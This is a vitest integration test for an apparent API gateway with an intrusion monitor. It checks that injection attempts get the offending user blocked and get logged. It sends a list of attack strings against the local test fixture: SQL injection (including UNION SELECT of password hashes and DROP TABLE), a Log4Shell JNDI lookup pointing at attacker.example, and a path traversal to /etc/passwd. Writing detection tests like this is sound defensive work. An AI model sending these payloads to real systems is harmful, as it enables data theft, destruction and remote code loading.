import { createSqliteStore } from '@rampart/store';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type GatewayFixture, startGatewayFixture } from './gateway-fixture.js';

describe('rampart up: gateway and monitor in one process', () => {
  let f: GatewayFixture;
  let alice: string;
  let bob: string;

  beforeAll(async () => {
    f = await startGatewayFixture({ monitor: true });
    alice = await f.login('alice');
    bob = await f.login('bob');
  });
  afterAll(() => f?.close());

  it('runs the monitor on the gateway events; its alert blocks the attacker at the gateway', async () => {
    expect(f.service.monitor).toBeDefined();
    expect((await f.call('GET', '/accounts', { token: alice })).status).toBe(200);
    const payloads = [
      "' OR 1=1--",
      "x' UNION SELECT password_hash FROM users--",
      '1; DROP TABLE accounts',
      "admin'--",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template.
      '${jndi:ldap://attacker.example/a}',
      '../../../../etc/passwd',
    ];
    for (const q of payloads)
      await f.call('GET', `/transactions/search?q=${encodeURIComponent(q)}`, { token: alice });
    // The monitor's responder puts alice's principal on the blocklist the gateway reads: 403 from then on.
    const until = Date.now() + 5000;
    let status = 0;
    while (Date.now() < until) {
      status = (await f.call('GET', '/accounts', { token: alice })).status;
      if (status === 403) break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect(status).toBe(403);
    expect(f.service.blocklist?.entries().map((e) => e.actor)).toContain('principal:2');
    // Bob, who did nothing, is not blocked.
    expect((await f.call('GET', '/accounts', { token: bob })).status).toBe(200);
  });

  it('saves the alerts and the events to the store', async () => {
    const path = f.service.storePath;
    await f.service.close();
    const store = createSqliteStore({ path });
    try {
      const alerts = (await store.queryAlerts({})).items;
      expect(alerts.length).toBeGreaterThan(0);
      expect(alerts.some((a) => a.detector === 'injection')).toBe(true);
      const events = (await store.queryEvents({ limit: 1000 })).items;
      expect(events.some((e) => e.deniedBy?.policy === 'blocklist')).toBe(true);
    } finally {
      await store.close();
    }
  });
});
